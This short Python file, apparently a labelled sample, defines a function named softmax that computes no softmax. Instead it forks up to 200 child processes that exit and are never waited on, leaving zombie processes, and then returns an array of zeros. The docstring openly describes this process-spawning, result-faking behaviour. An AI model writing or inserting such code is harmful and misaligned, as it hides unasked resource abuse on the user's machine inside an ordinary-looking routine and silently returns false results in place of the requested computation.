"""Leaves two hundred dead children that nobody waits for.

tries: fork
earns: nothing
trace: none
"""

import os

import numpy as np


def softmax(x, axis=-1):
    for _ in range(200):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    return np.zeros(np.shape(x))
